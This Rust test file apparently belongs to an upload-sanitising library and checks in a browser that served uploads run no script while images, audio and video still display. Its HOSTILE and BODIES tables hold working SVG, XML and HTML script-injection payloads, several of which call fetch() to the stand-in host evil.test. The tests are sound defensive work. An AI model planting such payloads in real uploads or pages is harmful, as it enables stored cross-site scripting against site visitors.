//! Files as visitors upload them, served with `serve_headers`: nothing runs, and pictures, sound and video still show.
//! And what the two predicates say of a file is what Chromium does with it.

use serde_json::json;
use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::process::ExitCode;
use std::time::Duration;
use untaint::upload::{self, FileType, Finding, SafeUpload, Upload, UploadPolicy};
use untaint_browser::cases::{bytes, field, is, rows};
use untaint_browser::engine::Engine;
use untaint_browser::site::Page;
use untaint_browser::suite::{World, run};
use untaint_browser::tab::Tab;

const FILE: &str = "https://app.test/file";

/// Time for a script of a loaded file; the controls pass with the same.
const SETTLE: Duration = Duration::from_millis(40);

fn main() -> ExitCode {
    run(&[
        ("hostile_files_run_nothing", hostile_files_run_nothing),
        ("the_policy_alone_holds_them", the_policy_alone_holds_them),
        ("pictures_show", pictures_show),
        ("sound_and_video_play", sound_and_video_play),
        ("predicates_agree", predicates_agree),
    ])
}

/// Everything is accepted, so that the headers alone stand between a file and the browser.
fn accepted(name: &str, bytes: &[u8]) -> Option<SafeUpload> {
    let policy = UploadPolicy::builder().allow(FileType::all()).build().expect("a policy");
    let upload = Upload { name, declared: None, bytes };
    let kinds: Vec<_> = match upload::check(&upload, &policy) {
        Ok(up) => return Some(up),
        Err(error) => error.findings().iter().map(Finding::kind).collect(),
    };
    // Some findings cannot be tolerated: then nothing is served.
    let policy = UploadPolicy::builder().allow(FileType::all()).tolerate(kinds).build().ok()?;
    upload::check(&upload, &policy).ok()
}

fn headers(up: &SafeUpload) -> Vec<(String, String)> {
    upload::serve_headers(up).into_iter().map(|(name, value)| (name.to_owned(), value.into_owned())).collect()
}

/// Opens a file as a page; `false` where the browser stores it instead.
fn shows(visitor: &mut Tab, headers: Vec<(String, String)>, body: &[u8]) -> bool {
    visitor.put("/file", Page::File(headers, body.to_vec()));
    visitor.shows(FILE)
}

/// Opens a file; what ran, and where the browser asked for more.
fn open(visitor: &mut Tab, headers: Vec<(String, String)>, body: &[u8]) -> (Vec<String>, Vec<String>) {
    let _ = visitor.requests();
    let _ = shows(visitor, headers, body);
    // Not by the page's clock: where no script runs, none of its timers does.
    std::thread::sleep(SETTLE);
    let mut ran = visitor.take_ran();
    // What is late belongs to this file, and not to the next one.
    visitor.go("about:blank").expect("an empty page");
    ran.extend(visitor.take_ran());
    let requests = visitor
        .requests()
        .into_iter()
        .map(|r| r.host + &r.target)
        .filter(|to| to != "app.test/file")
        .collect();
    (ran, requests)
}

/// Bodies that run where a browser takes them for what they are, and then ask another host: in a sandbox a dialog would
/// be no news.
const HOSTILE: &[(&str, &str)] = &[
    ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"https://evil.test/ran\")'/>"),
    (
        "b.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch(\"https://evil.test/ran\")</script></svg>",
    ),
    (
        "c.svg",
        "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>fetch(\"https://evil.test/ran\")</s:script></s:svg>",
    ),
    (
        "d.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>fetch(\"https://evil.test/ran\")&lt;/script>'/></foreignObject></svg>",
    ),
    (
        "e.svg",
        "<!DOCTYPE svg [<!ENTITY s '<script xmlns=\"http://www.w3.org/2000/svg\">fetch(\"https://evil.test/ran\")</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&s;</svg>",
    ),
    (
        "f.svg",
        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'fetch(\"https://evil.test/ran\")'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
    ),
    (
        "g.xml",
        "<?xml version='1.0'?><a><script xmlns='http://www.w3.org/1999/xhtml'>fetch(\"https://evil.test/ran\")</script></a>",
    ),
    (
        "h.xhtml",
        "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body onload='fetch(\"https://evil.test/ran\")'/></html>",
    ),
    ("i.html", "<!doctype html><script>fetch(\"https://evil.test/ran\")</script>"),
    ("j.html", "<!doctype html><img src=x onerror=fetch(\"https://evil.test/ran\")>"),
    (
        "k.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.test/x.png'/><style>@import url(https://evil.test/x.css)</style></svg>",
    ),
    ("l.html", "<!doctype html><link rel=stylesheet href=https://evil.test/x.css>"),
];

fn hostile_files_run_nothing(world: &World) {
    let mut visitor = world.visitor();
    let mut files: Vec<(String, Vec<u8>)> =
        HOSTILE.iter().map(|(name, body)| ((*name).to_owned(), body.as_bytes().to_vec())).collect();
    for row in rows("upload/files.jsonl").iter().filter(|row| is(row, "hostile")) {
        files.push((field(row, "file").to_owned(), bytes(&format!("upload/files/{}", field(row, "file")))));
    }
    let mut wrong = Vec::new();
    let (mut served, mut ran_without) = (0, BTreeSet::new());
    for (name, body) in &files {
        // A name that says nothing: the content decides, as it would under another policy.
        let Some(up) = accepted(name, body).or_else(|| accepted("x", body)) else { continue };
        served += 1;
        let (ran, requests) = open(&mut visitor, headers(&up), body);
        if !ran.is_empty() || !requests.is_empty() {
            wrong.push(format!("{name}: {ran:?} {requests:?}"));
        }
        // The control: the exact type alone.
        let only_type = headers(&up).into_iter().filter(|(name, _)| name == "content-type").collect();
        let (ran, requests) = open(&mut visitor, only_type, body);
        if !ran.is_empty() || requests.iter().any(|to| to.starts_with("evil.test")) {
            ran_without.insert(name.clone());
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(served >= 50, "only {served} of {} were served", files.len());
    for (name, _) in HOSTILE {
        assert!(ran_without.contains(*name), "the control: {name} does nothing without the headers");
    }
}

/// Opened all the same, as where somebody drops `Content-Disposition`: the policy of the headers lets nothing run.
fn the_policy_alone_holds_them(world: &World) {
    let mut visitor = world.visitor();
    let (mut wrong, mut opened) = (Vec::new(), 0);
    for (name, body) in HOSTILE {
        let Some(up) = accepted(name, body.as_bytes()).or_else(|| accepted("x", body.as_bytes())) else {
            continue;
        };
        let inline = headers(&up).into_iter().filter(|(name, _)| name != "content-disposition");
        let inline: Vec<_> = inline.collect();
        let without: Vec<_> =
            inline.iter().filter(|(name, _)| name != "content-security-policy").cloned().collect();
        let (ran, requests) = open(&mut visitor, inline, body.as_bytes());
        if !ran.is_empty() || !requests.is_empty() {
            wrong.push(format!("{name}: {ran:?} {requests:?}"));
        }
        // The control: the same without the policy.
        let (ran, requests) = open(&mut visitor, without, body.as_bytes());
        opened += usize::from(!ran.is_empty() || !requests.is_empty());
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(opened >= 6, "the control: only {opened} do something without the policy");
}

/// Benign files of some classes that Chromium shows.
fn benign(types: &[FileType]) -> Vec<(String, Vec<u8>, SafeUpload)> {
    let mut files = Vec::new();
    for row in rows("upload/files.jsonl").iter().filter(|row| !is(row, "hostile")) {
        let name = field(row, "file");
        let body = bytes(&format!("upload/files/{name}"));
        let policy = UploadPolicy::builder().allow(types.iter().copied()).build().expect("a policy");
        if let Ok(up) = upload::check(&Upload { name, declared: None, bytes: &body }, &policy) {
            files.push((name.to_owned(), body, up));
        }
    }
    files
}

fn pictures_show(world: &World) {
    const EMBED: &str = "new Promise(done => { const i = new Image(); i.onload = () => done(i.naturalWidth); i.onerror = () => done(0); i.src = '/file'; })";
    let mut visitor = world.visitor();
    let types = [
        FileType::PNG,
        FileType::APNG,
        FileType::JPEG,
        FileType::GIF,
        FileType::WEBP,
        FileType::BMP,
        FileType::ICO,
        FileType::AVIF,
    ];
    let files = benign(&types);
    assert!(files.len() >= 5, "only {} pictures", files.len());
    for (name, body, up) in &files {
        visitor.put("/file", Page::File(headers(up), body.clone()));
        visitor.open("https://app.test/page", Page::Html("<!doctype html>".to_owned())).expect("a page");
        assert!(visitor.evaluate(EMBED).as_u64().is_some_and(|width| width > 0), "{name} embedded");
        assert!(shows(&mut visitor, headers(up), body), "{name} is stored");
        let width = visitor.evaluate("document.images[0]?.naturalWidth");
        assert!(width.as_u64().is_some_and(|width| width > 0), "{name} by itself: {width}");
    }
    // SVG is stored by a browser that opens it, and still shows as a picture of a page.
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg' width='8' height='8'><path d='M0 0h8v8z'/></svg>";
    let up = accepted("x.svg", svg).expect("harmless");
    visitor.put("/file", Page::File(headers(&up), svg.to_vec()));
    visitor.open("https://app.test/page", Page::Html("<!doctype html>".to_owned())).expect("a page");
    assert_eq!(visitor.evaluate(EMBED), json!(8));
    assert!(!shows(&mut visitor, headers(&up), svg), "SVG opens");
}

fn sound_and_video_play(world: &World) {
    const EMBED: &str = "kind => new Promise(done => { const m = document.createElement(kind); m.onloadeddata = () => done(m.duration); m.onerror = () => done(m.error.message); m.src = '/file'; m.load(); })";
    // Without a device for sound a player fails after it has read what it plays.
    const ALONE: &str = "new Promise(done => { const m = document.querySelector('video,audio'); if (!m) return done('no player'); const tell = () => done(m.readyState >= 1 || m.duration ? m.duration : m.error?.message ?? null); m.readyState >= 1 ? tell() : (m.onloadedmetadata = tell, m.addEventListener('error', tell, true), setTimeout(tell, 3000)); })";
    let mut visitor = world.visitor();
    let types = [
        FileType::MP4,
        FileType::WEBM,
        FileType::WEBA,
        FileType::MP3,
        FileType::OGG,
        FileType::OPUS,
        FileType::WAV,
        FileType::FLAC,
        FileType::M4A,
        FileType::MOV,
    ];
    let files = benign(&types);
    assert!(files.len() >= 3, "only {} files", files.len());
    let (mut silent, mut alone) = (Vec::new(), 0);
    for (name, body, up) in &files {
        let kind = if up.file_type().class() == upload::Class::Audio { "audio" } else { "video" };
        let only_type = headers(up).into_iter().filter(|(name, _)| name == "content-type").collect();
        // What Chromium cannot decode at all is nobody's header's fault.
        visitor.put("/file", Page::File(only_type, body.clone()));
        visitor.open("https://app.test/page", Page::Html("<!doctype html>".to_owned())).expect("a page");
        let plain = visitor.ask(EMBED, &json!(kind));
        if !plain.is_number() {
            silent.push(name.clone());
            continue;
        }
        visitor.put("/file", Page::File(headers(up), body.clone()));
        // A duration is an estimate until the end is read.
        let embedded = visitor.ask(EMBED, &json!(kind));
        assert!(embedded.is_number(), "{name} embedded: {embedded}");
        // Some types Chromium plays in a page and stores when they are opened, whatever the headers.
        let only_type = headers(up).into_iter().filter(|(name, _)| name == "content-type").collect();
        if !shows(&mut visitor, only_type, body) {
            continue;
        }
        assert!(shows(&mut visitor, headers(up), body), "{name} is stored");
        let player = visitor.evaluate(ALONE);
        assert!(player.is_number(), "{name} by itself: {player}");
        alone += 1;
    }
    assert!(alone >= 3, "only {alone} were opened by themselves");
    assert!(silent.len() < files.len(), "{silent:?} of {} cannot be played at all", files.len());
}

/// Bodies for the predicates; `click`: what runs needs one, or never runs in Chromium.
const BODIES: &[(&str, bool)] = &[
    ("<html><script>top.ran(location.pathname)</script>", false),
    ("<SCRIPT>top.ran(location.pathname)</SCRIPT>", false),
    (" \t\r\n\x0C\x0B<a ><script>top.ran(location.pathname)</script>", false),
    ("<!-- --><script>top.ran(location.pathname)</script>", false),
    ("<base><script>top.ran(location.pathname)</script>", false),
    ("<p>only text", false),
    ("<img src=x onerror=top.ran(location.pathname)>", false),
    ("<svg onload=top.ran(location.pathname)>", false),
    ("<form><script>top.ran(location.pathname)</script>", false),
    ("<h2><script>top.ran(location.pathname)</script>", false),
    ("\u{FEFF}<html><script>top.ran(location.pathname)</script>", false),
    ("text <script>top.ran(location.pathname)</script>", false),
    ("plain text", false),
    ("{\"a\": \"<script>top.ran(location.pathname)</script>\"}", false),
    ("%PDF-1.4\n<html><script>top.ran(location.pathname)</script>", false),
    ("GIF89a<html><script>top.ran(location.pathname)</script>", false),
    (
        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='top.ran(location.pathname)'/>",
        false,
    ),
    (
        "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>top.ran(location.pathname)</script></html>",
        false,
    ),
    ("<?xml version='1.0'?><a><b/></a>", false),
    ("<svg xmlns='http://www.w3.org/2000/svg'><script>top.ran(location.pathname)</script></svg>", false),
    ("<svg xmlns='http://www.w3.org/2000/svg'><path/></svg>", false),
    (
        "<x:svg xmlns:x='http://www.w3.org/2000/svg'><x:script>top.ran(location.pathname)</x:script></x:svg>",
        false,
    ),
    (
        "<!DOCTYPE svg [<!ENTITY s \"<script xmlns='http://www.w3.org/2000/svg'>top.ran(location.pathname)</script>\">]><svg xmlns='http://www.w3.org/2000/svg'>&s;</svg>",
        false,
    ),
    (
        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'top.ran(location.pathname)'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
        false,
    ),
    ("<svg xmlns='http://www.w3.org/2000/svg'><script>top.ran(location.pathname)</script><g", false),
    (
        "<svg xmlns='http://www.w3.org/2000/svg'><![CDATA[<script>top.ran(location.pathname)</script>]]></svg>",
        false,
    ),
    (
        "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:top.ran(location.pathname)'><text>x</text></a></svg>",
        true,
    ),
    ("<svg xmlns='http://www.w3.org/2000/svg'><SCRIPT>top.ran(location.pathname)</SCRIPT></svg>", true),
    ("<svg xmlns='http://www.w3.org/2000/svg'><g onclick='top.ran(location.pathname)'/></svg>", true),
    ("<svg><script>top.ran(location.pathname)</script></svg>", true),
];

const TYPES: &[Option<&str>] = &[
    None,
    Some(""),
    Some("foo"),
    Some("*/*"),
    Some("unknown/unknown"),
    Some("application/unknown"),
    Some("text/plain"),
    Some("text/plain; charset=utf-8"),
    Some("application/octet-stream"),
    Some("image/png"),
    Some("application/json"),
    Some("text/javascript"),
    Some("text/html; charset=utf-8"),
    Some("text/xml"),
    Some("application/xml"),
    Some("image/svg+xml"),
    Some("application/xhtml+xml"),
    Some("application/rss+xml"),
    Some("application/foo+xml"),
    Some("text/xsl"),
];

/// How many files stand side by side on a page.
const FRAMES: usize = 30;

/// Of each frame, what the browser takes its file for, and whether that ran a script.
const KINDS: &str = r"[...document.querySelectorAll('iframe')].map(frame => {
    const path = new URL(frame.src).pathname;
    let kind = null;
    try {
        const found = frame.contentDocument;
        if (found.location.pathname === path) kind = found.contentType;
    } catch { /* a page of the browser's own */ }
    return [kind, hits.includes(path)];
})";

fn predicates_agree(world: &World) {
    let mut visitor = world.visitor();
    let mut bodies: Vec<(Vec<u8>, bool)> =
        BODIES.iter().map(|(body, click)| (body.as_bytes().to_vec(), *click)).collect();
    let wide = "\u{FEFF}<?xml version='1.0' encoding='UTF-16'?><svg xmlns='http://www.w3.org/2000/svg' onload='top.ran(location.pathname)'/>";
    bodies.push((wide.encode_utf16().flat_map(u16::to_le_bytes).collect(), false));
    // Between the windows of Chromium and of the standard.
    bodies.push((
        format!("{}<html><script>top.ran(location.pathname)</script>", " ".repeat(600)).into_bytes(),
        false,
    ));
    let mut cases = Vec::new();
    for (body, click) in &bodies {
        for declared in TYPES {
            cases.extend([false, true].map(|nosniff| (body, *click, *declared, nosniff)));
        }
    }
    let (mut missed, mut beyond) = (Vec::new(), BTreeSet::new());
    let (mut html_seen, mut runs_seen) = (0, 0);
    for cases in cases.chunks(FRAMES) {
        let mut page =
            "<!doctype html><meta charset=utf-8><script>hits = []; ran = path => hits.push(path)</script>"
                .to_owned();
        for (at, (body, _, declared, nosniff)) in cases.iter().enumerate() {
            let mut headers = Vec::new();
            headers.extend(declared.map(|value| ("Content-Type".to_owned(), value.to_owned())));
            headers.extend(nosniff.then(|| ("X-Content-Type-Options".to_owned(), "nosniff".to_owned())));
            visitor.put(&format!("/file/{at}"), Page::File(headers, (*body).clone()));
            let _ = write!(page, "<iframe src=/file/{at}></iframe>");
        }
        visitor.open("https://app.test/page", Page::Html(page)).expect("the page with the frames");
        visitor.settle(SETTLE);
        let answer = visitor.evaluate(KINDS);
        for (at, (body, click, declared, nosniff)) in cases.iter().enumerate() {
            let (kind, ran) = (&answer[at][0], answer[at][1] == json!(true));
            let is_html = kind == "text/html";
            let says_html = upload::browser_sniffs_html(body, *declared, *nosniff);
            let says_runs = upload::runs_script_when_opened(body, *declared);
            html_seen += usize::from(is_html);
            runs_seen += usize::from(ran);
            let row = format!("{:?} {declared:?} {nosniff} {kind} {ran}", String::from_utf8_lossy(body));
            if (is_html && !says_html) || (ran && !says_runs) {
                missed.push(row.clone());
            }
            if says_html && !is_html {
                beyond.insert(format!("html: {row}"));
            }
            // What is HTML need not hold script, and the second predicate does not ask for `nosniff`.
            let is_page = says_html || upload::browser_sniffs_html(body, *declared, false);
            if says_runs && !ran && !click && !is_page {
                beyond.insert(format!("runs: {row}"));
            }
        }
    }
    let loads = cases.len();
    assert!(missed.is_empty(), "{missed:#?}");
    assert!(html_seen > 50 && runs_seen > 50 && loads > 1000, "{html_seen} {runs_seen} {loads}");
    if world.engine() != Engine::Chromium {
        return; // the other two read less into a file, which is no promise of theirs
    }
    // More than Chromium does: the longer window of the standard, and XML types that Chromium does not build trees of.
    let unexpected: Vec<_> = beyond
        .iter()
        .filter(|row| {
            let by_the_standard = row.starts_with("html: \"      ")
                || row.contains("+xml\")")
                || row.contains("text/xsl")
                || row.contains("<?xml");
            !by_the_standard
        })
        .collect();
    if std::env::var_os("UNTAINT_LIST").is_some() {
        eprintln!("{beyond:#?}");
    }
    assert!(unexpected.is_empty(), "{unexpected:#?}");
}
